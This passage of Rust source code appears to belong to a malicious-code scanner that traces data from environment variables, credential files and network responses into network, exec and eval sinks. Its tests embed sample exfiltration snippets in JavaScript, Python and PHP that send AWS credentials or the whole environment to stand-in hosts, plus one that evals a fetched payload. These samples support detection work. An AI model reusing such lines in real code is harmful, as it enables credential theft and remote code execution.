                }
                state.add((scope, name.clone()), value.labels);
                if let Some(h) = value.chain {
                    state.sink_handles.insert((scope, name), h);
                }
            }
            labels = value.labels;
        }
    }

    if spec.returns.contains(&kind) {
        // The nearest function takes it, at its end.
        if let Some(f) = fn_names.last_mut() {
            f.1 |= labels;
        }
    }

    if frame.scope.is_some() {
        scopes.pop();
        let (name, mut ret) = fn_names.pop().unwrap_or((None, 0));
        let body = node.child_by_field_name("body");
        if let Some(b) = body {
            let body_labels = frame
                .children
                .iter()
                .find(|c| c.node == b)
                .map_or(0, |c| c.labels);
            let expression_body = !matches!(
                b.kind(),
                "statement_block" | "block" | "compound_statement" | "body_statement"
            );
            if spec.implicit_return || expression_body {
                ret |= body_labels;
            }
        }
        if let Some(n) = &name {
            if let Some(r) = state.returns.get(n) {
                ret |= r;
            }
            let r = state.returns.entry(n.clone()).or_default();
            if *r | ret != *r {
                *r |= ret;
                state.changed = true;
            }
            let parent_scope = *scopes.last().unwrap_or(&0);
            state.add((parent_scope, n.clone()), ret);
        }
        labels = ret;
    }

    Child {
        field: frame.field,
        bits,
        labels,
        node,
        chain,
        first: frame.first.unwrap_or(0),
        positional: frame.positional,
    }
}

/// A call that may name another file's function: a bare name, a Rust
/// path (`sink::post`), or a member of an imported module (`p.upload`
/// with `const p = require('./profile')`). Method calls on values
/// (`parts.push(x)`) are not.
fn maybe_imported(callee: &str, aliases: &HashMap<String, String>) -> bool {
    // A bare name, or one an alias resolved to a relative module
    // (`collect` from `const { collect } = require('./collect')`).
    if !callee.contains(['.', '>']) || callee.starts_with('.') {
        return true;
    }
    if callee.contains("::") && !callee.contains('.') {
        return true;
    }
    callee
        .split(['.', '('])
        .next()
        .is_some_and(|head| aliases.contains_key(head))
}

/// Whether a `chr(…)` call turns codes into text: inside a comprehension,
/// generator or lambda (`''.join(chr(c) for c in codes)`,
/// `map(lambda c: chr(c ^ k), data)`), appended to a string
/// (`s += chr(c)`), or around an XOR.
fn decodes_codes(call: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> bool {
    let mut n = call;
    for _ in 0..4 {
        let Some(p) = n.parent() else { break };
        if matches!(
            p.kind(),
            "generator_expression"
                | "list_comprehension"
                | "set_comprehension"
                | "lambda"
                | "augmented_assignment"
        ) {
            return true;
        }
        n = p;
    }
    call.child_by_field_name("arguments")
        .is_some_and(|a| a.byte_range().len() < 200 && text(a).contains('^'))
}

/// The innermost scope that bound `name`, else the current one: where a
/// container's labels go when something is put into it.
fn binding_scope(state: &State, scopes: &[u32], name: &str) -> u32 {
    scopes
        .iter()
        .rev()
        .find(|s| binds(state, **s, name))
        .or(scopes.last())
        .copied()
        .unwrap_or(0)
}

/// A container that is a parameter of the current function was filled:
/// the function fills what its callers give it.
fn mark_out_param(
    state: &mut State,
    scopes: &[u32],
    fn_names: &[(Option<String>, Labels)],
    name: &str,
    labels: Labels,
) {
    if labels == 0 {
        return;
    }
    let (Some(scope), Some((Some(function), _))) = (scopes.last(), fn_names.last()) else {
        return;
    };
    if !state
        .params_of
        .get(scope)
        .is_some_and(|p| p.iter().any(|n| n == name))
    {
        return;
    }
    let e = state.out_params.entry(function.clone()).or_default();
    if *e | labels != *e {
        *e |= labels;
        state.changed = true;
    }
}

fn sink_bits(classes: &FlowClasses) -> Labels {
    classes
        .classes
        .iter()
        .enumerate()
        .filter(|(_, c)| c.kind == ClassKind::Sink)
        .fold(0, |a, (i, _)| a | (1 << i))
}

/// Parameter names of a function node.
fn fn_params(spec: &Spec, node: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Vec<String> {
    let Some(p) = node
        .child_by_field_name("parameters")
        .or_else(|| node.child_by_field_name("parameter"))
    else {
        return Vec::new();
    };
    let mut out = Vec::new();
    collect_idents(spec, p, text, &mut out, 0);
    out
}

fn collect_idents(
    spec: &Spec,
    node: Node<'_>,
    text: &dyn Fn(Node<'_>) -> String,
    out: &mut Vec<String>,
    depth: usize,
) {
    if depth > 8 || out.len() > 32 {
        return;
    }
    if spec.identifiers.contains(&node.kind())
        || node.kind() == "shorthand_property_identifier_pattern"
    {
        let n = text(node);
        if !out.contains(&n) {
            out.push(n);
        }
        return;
    }
    let mut cur = node.walk();
    for c in node.named_children(&mut cur) {
        collect_idents(spec, c, text, out, depth + 1);
    }
}

/// Names an assignment target binds: its identifiers.
fn target_names(spec: &Spec, target: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Vec<String> {
    let mut out = Vec::new();
    collect_idents(spec, target, text, &mut out, 0);
    out
}

fn call_args(spec: &Spec, args: Option<Node<'_>>, text: &dyn Fn(Node<'_>) -> String) -> CallArgs {
    let mut out = CallArgs::default();
    let Some(args) = args else {
        return out;
    };
    let mut cur = args.walk();
    for a in args.named_children(&mut cur) {
        if spec.skip.contains(&a.kind()) {
            continue;
        }
        out.count += 1;
        // `argument` wrappers (PHP) and keyword values: the literal inside.
        let lit = if spec.opaque_strings.contains(&a.kind()) || spec.strings.contains(&a.kind()) {
            Some(a)
        } else {
            let mut c2 = a.walk();
            let found = a.named_children(&mut c2).find(|c| {
                spec.opaque_strings.contains(&c.kind()) || spec.strings.contains(&c.kind())
            });
            found.or_else(|| leading_literal(spec, a))
        };
        if let Some(l) = lit {
            if out.literals.len() < 8 {
                out.literals
                    .push(crate::parse::decode_literal(bounded(&text(l), 2048)));
            }
        }
    }
    out
}

/// A decoder handed over as a function (`map(chr, codes)`,
/// `codes.map(String.fromCharCode)`, `array_map('chr', $c)`): the call
/// returns decoded data.
fn decoder_passed(
    classes: &FlowClasses,
    spec: &Spec,
    args: Option<Node<'_>>,
    text: &dyn Fn(Node<'_>) -> String,
) -> Labels {
    let (Some(args), Some(d)) = (args, classes.index("decoded")) else {
        return 0;
    };
    let mut cur = args.walk();
    for a in args.named_children(&mut cur).take(8) {
        let name = if spec.identifiers.contains(&a.kind())
            || matches!(a.kind(), "attribute" | "member_expression" | "name")
        {
            text(a)
        } else if spec.opaque_strings.contains(&a.kind()) || a.kind() == "argument" {
            // PHP names callbacks as strings: `array_map('chr', …)`.
            crate::parse::decode_literal(&text(a))
        } else {
            continue;
        };
        if name.len() <= 64
            && classes.call_classes(spec.lang, &name, &CallArgs::default()) & (1 << d) != 0
        {
            return 1 << d;
        }
    }
    0
}

/// The string literal a concatenation starts with (`'http://x/' . $q`,
/// `"https://" + host`, `"curl " + url`): what a call's pattern over its
/// literal arguments judges the whole argument by.
fn leading_literal<'t>(spec: &Spec, arg: Node<'t>) -> Option<Node<'t>> {
    let mut node = arg;
    for _ in 0..6 {
        let kind = node.kind();
        if spec.opaque_strings.contains(&kind) || spec.strings.contains(&kind) {
            return Some(node);
        }
        if !matches!(
            kind,
            "binary_expression"
                | "binary_operator"
                | "binary"
                | "argument"
                | "parenthesized_expression"
        ) {
            return None;
        }
        node = node
            .child_by_field_name("left")
            .or_else(|| node.named_child(0))?;
    }
    None
}

/// The environment read through a `whole` path: one variable or all.
fn env_use(classes: &FlowClasses, node: Node<'_>, text: &dyn Fn(Node<'_>) -> String) -> Labels {
    let Some(parent) = node.parent() else {
        return 1 << classes.env_dump;
    };
    let pk = parent.kind();
    let is_object = parent
        .child_by_field_name("object")
        .or_else(|| parent.child_by_field_name("value"))
        .or_else(|| parent.child_by_field_name("receiver"))
        .is_some_and(|o| o == node)
        || (pk == "subscript_expression" && parent.named_child(0) == Some(node));
    let single = match pk {
        "subscript" | "subscript_expression" | "element_reference" => is_object,
        "member_expression" | "attribute" | "call" | "member_access_expression" => {
            if !is_object {
                false
            } else {
                let prop = parent
                    .child_by_field_name("property")
                    .or_else(|| parent.child_by_field_name("attribute"))
                    .or_else(|| parent.child_by_field_name("method"))
                    .or_else(|| parent.child_by_field_name("name"))
                    .map(text)
                    .unwrap_or_default();
                pk == "member_expression" && !matches!(prop.as_str(), "toString" | "constructor")
                    || classes.env_single.contains(&prop)
            }
        }
        // `const { A, B } = process.env`: those variables.
        "variable_declarator" => parent
            .child_by_field_name("name")
            .is_some_and(|n| n.kind() == "object_pattern"),
        _ => false,
    };
    if single {
        let around = parent
            .parent()
            .filter(|g| g.kind().contains("call"))
            .unwrap_or(parent);
        let t = text(around);
        let mut l = 1 << classes.env_var;
        if classes.secret_names.is_match(bounded(&t, 300)) {
            l |= 1 << classes.env_secret;
        }
        l
    } else {
        1 << classes.env_dump
    }
}

/// Environment accessors (`os.getenv("X")`) and whole-environment calls.
/// `labels` with the whole environment narrowed to one variable named by
/// `key`.
fn single_env_var(classes: &FlowClasses, labels: Labels, key: &str) -> Labels {
    let mut l = (labels & !(1 << classes.env_dump)) | (1 << classes.env_var);
    if classes.secret_names.is_match(bounded(key, 300)) {
        l |= 1 << classes.env_secret;
    }
    l
}

fn env_call(
    classes: &FlowClasses,
    lang: &str,
    callee: &str,
    args: &CallArgs,
    text: &dyn Fn(Node<'_>) -> String,
    args_node: Option<Node<'_>>,
) -> Labels {
    let callee = callee.trim();
    if classes
        .env_dumps
        .iter()
        .any(|p| classes.pattern_holds(p, lang, callee, args))
    {
        return 1 << classes.env_dump;
    }
    if classes
        .env_accessors
        .iter()
        .any(|p| p.lang.is_none_or(|l| l == lang) && callee_matches(callee, &p.pattern))
    {
        let mut l = 1 << classes.env_var;
        let t = args_node.map(text).unwrap_or_default();
        if classes.secret_names.is_match(bounded(&t, 300)) {
            l |= 1 << classes.env_secret;
        }
        return l;
    }
    0
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The sinks of `code` as `class <- labels` lines.
    fn sinks(lang: Language, path: &str, code: &str) -> Vec<String> {
        let classes = crate::rules::builtin().flow();
        let deadline = Instant::now() + std::time::Duration::from_secs(10);
        let tree = crate::parse::parse_tree(lang, path, code.as_bytes(), deadline).expect("parses");
        let facts = analyze(classes, lang, tree.root_node(), code.as_bytes(), deadline);
        facts
            .sinks
            .iter()
            .map(|h| {
                format!(
                    "{} <- {}",
                    classes.classes[h.class].id,
                    classes.names(h.labels).join(",")
                )
            })
            .collect()
    }

    fn reaches(lang: Language, path: &str, code: &str, from: &str, to: &str) -> bool {
        sinks(lang, path, code).iter().any(|s| {
            s.starts_with(&format!("{to} <-"))
                && s.split("<- ")
                    .nth(1)
                    .unwrap_or("")
                    .split(',')
                    .any(|l| l == from)
        })
    }

    #[test]
    fn string_patterns_keep_their_own_flags_and_anchors_in_a_class() {
        let toml = r#"
[[class]]
id = "a"
kind = "source"
description = "a"
strings = ['(?i)^secret$', 'plain', '''(?x) tail \b # a comment with ) in it''']

[[class]]
id = "b"
kind = "sink"
description = "b"
strings = ['^B']
"#;
        let classes = FlowClasses::load(&[("t.toml".into(), toml.into())]).expect("loads");
        let (a, b) = (
            1 << classes.index("a").unwrap(),
            1 << classes.index("b").unwrap(),
        );
        assert_eq!(classes.string_labels("SECRET"), a);
        // `(?i)` and `^…$` belong to the first pattern only.
        assert_eq!(classes.string_labels("a secret"), 0);
        assert_eq!(classes.string_labels("PLAIN"), 0);
        assert_eq!(classes.string_labels("xx plain xx"), a);
        assert_eq!(classes.string_labels("the tail end"), a);
        assert_eq!(classes.string_labels("the tailgate"), 0);
        assert_eq!(classes.string_labels("Big plain"), a | b);
        assert_eq!(classes.string_labels("b plain"), a);
    }

    #[test]
    fn a_body_gathered_in_one_callback_reaches_eval_in_another() {
        let code = "require('https').get('https://p.example/s', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); });\n";
        assert!(
            reaches(Language::Javascript, "index.js", code, "response", "eval"),
            "{:?}",
            sinks(Language::Javascript, "index.js", code)
        );
    }

    #[test]
    fn values_put_into_containers_travel_with_them() {
        let js = "const fs = require('fs');\nconst out = [];\nfor (const p of ['a']) { out.push({ d: fs.readFileSync(process.env.HOME + '/.aws/credentials') }); }\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(out) });\n";
        assert!(
            reaches(
                Language::Javascript,
                "i.js",
                js,
                "credential-path",
                "network"
            ),
            "{:?}",
            sinks(Language::Javascript, "i.js", js)
        );
        let py = "import os, requests\nloot = {}\nloot.update(dict(os.environ))\nrequests.post('https://x.example', json=loot)\n";
        assert!(
            reaches(Language::Python, "a.py", py, "env-dump", "network"),
            "{:?}",
            sinks(Language::Python, "a.py", py)
        );
    }

    #[test]
    fn php_sends_the_environment_through_stream_contexts_curl_and_sockets() {
        let context = "<?php\n$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode(getenv())]]);\nfile_get_contents($url, false, $ctx);\n";
        assert!(
            reaches(Language::Php, "a.php", context, "env-dump", "network"),
            "{:?}",
            sinks(Language::Php, "a.php", context)
        );
        let curl = "<?php\n$ch = curl_init('https://c.example/');\ncurl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => http_build_query($_ENV)]);\ncurl_exec($ch);\n";
        assert!(
            reaches(Language::Php, "a.php", curl, "env-dump", "network"),
            "{:?}",
            sinks(Language::Php, "a.php", curl)
        );
        let socket = "<?php\n$s = fsockopen('198.51.100.7', 443);\n$body = serialize($_SERVER);\nfwrite($s, \"POST / HTTP/1.0\\r\\n\\r\\n\" . $body);\n";
        assert!(
            reaches(Language::Php, "a.php", socket, "env-dump", "network"),
            "{:?}",
            sinks(Language::Php, "a.php", socket)
        );
        // One variable is not the environment; a file handle is not a socket.
        let one = "<?php\n$ctx = stream_context_create(['http' => ['content' => getenv('HOME')]]);\n$f = fopen('/tmp/x', 'w');\nfwrite($f, json_encode(getenv()));\n";
        let found = sinks(Language::Php, "a.php", one);
        assert!(
            !found
                .iter()
                .any(|s| s.starts_with("network <-") && s.contains("env-dump")),
            "{found:?}"
        );
    }

    #[test]
    fn module_aliases_resolve_callees() {
        let code = "const cp = require('child_process');\nconst { request: r } = require('https');\ncp.exec(process.env.X);\n";
        assert!(
            reaches(Language::Javascript, "i.js", code, "env-var", "exec"),
            "{:?}",
            sinks(Language::Javascript, "i.js", code)
        );
        let py = "import subprocess as sp\nfrom os import system as run\nimport os\nrun(os.environ['A'])\nsp.call(os.environ['B'])\n";
        let s = sinks(Language::Python, "a.py", py);
        assert_eq!(
            s.iter()
                .filter(|l| l.starts_with("exec <-") && l.contains("env-var"))
                .count(),
            2,
            "{s:?}"
        );
    }
}
